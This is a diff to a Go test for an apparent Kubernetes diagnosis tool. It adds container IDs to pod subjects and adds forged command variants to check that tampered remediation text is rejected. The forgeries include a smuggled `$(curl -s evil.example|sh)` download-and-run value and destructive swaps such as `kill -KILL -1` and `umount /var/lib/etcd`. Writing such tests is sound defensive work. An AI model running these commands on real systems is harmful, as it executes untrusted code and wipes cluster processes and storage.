@@ -82,7 +82,11 @@ func TestWordingsAreCurrent(t *testing.T) {
 
 // subjectOf is the pod of a fixture.
 func subjectOf(p *evidence.Pod) cause.Subject {
-	return cause.Subject{Namespace: p.Namespace, Name: p.Name, Node: p.Node.Name, UIDs: []string{p.UID, p.RuntimeUID}}
+	of := cause.Subject{Namespace: p.Namespace, Name: p.Name, Node: p.Node.Name, UIDs: []string{p.UID, p.RuntimeUID}}
+	for i := range p.Containers {
+		of.Containers = append(of.Containers, p.Containers[i].ID)
+	}
+	return of
 }
 
 // No text that somebody else makes of ours passes for it, and what a pod may be called is in none of its commands.
@@ -136,7 +140,7 @@ func TestWroteOfAnother(t *testing.T) {
 	uid := "11111111-2222-3333-4444-555555555555"
 	f.Objects.PodUID, f.Objects.Pod = uid, "shop/web-0"
 	f.Objects.Mount = &diagnose.Mount{HostPoint: "/var/lib/kubelet/pods/" + uid + "/volumes/x~y/data", Type: "nfs", Server: "fd00::1", Source: "fd00::1:/export"}
-	of := cause.Subject{Namespace: "shop", Name: "web-0", Node: f.Node(), UIDs: []string{uid}}
+	of := cause.Subject{Namespace: "shop", Name: "web-0", Node: f.Node(), UIDs: []string{uid}, Containers: []string{f.Objects.ContainerID}}
 	n := 0
 	for _, r := range cause.All() {
 		for _, family := range append(r.Doc.Families, diagnose.Family{}) {
@@ -149,6 +153,12 @@ func TestWroteOfAnother(t *testing.T) {
 				"-n shop pod web-0":                   "-n kube-system pod etcd",
 				"umount /var/lib/kubelet/pods/" + uid: "umount /var/lib/kubelet/pods/99999999-2222-3333-4444-555555555555",
 				"umount /var/":                        "umount /var/../", " ){19}70 ": " ){19}.+0 ",
+				"umount " + f.Objects.Mount.HostPoint: "umount /var/lib/etcd",
+				"resume c0ffee":                       "resume c0ffee1",
+				"kill -KILL 7 ":                       "kill -KILL -1 ",
+				"--pid 7 ":                            "--pid 1 ",
+				"a LIMIT above 512000000":             `a LIMIT above "$(curl -s evil.example|sh)"`,
+				"/sys/fs/cgroup/kubepods/":            "/sys/fs/cgroup/kubepods/pod99999999-2222-3333-4444-555555555555/",
 			} {
 				if forged := strings.Replace(text, ours, other, 1); forged != text {
 					if n++; cause.Wrote(r.Cause, forged, "", "", of) {
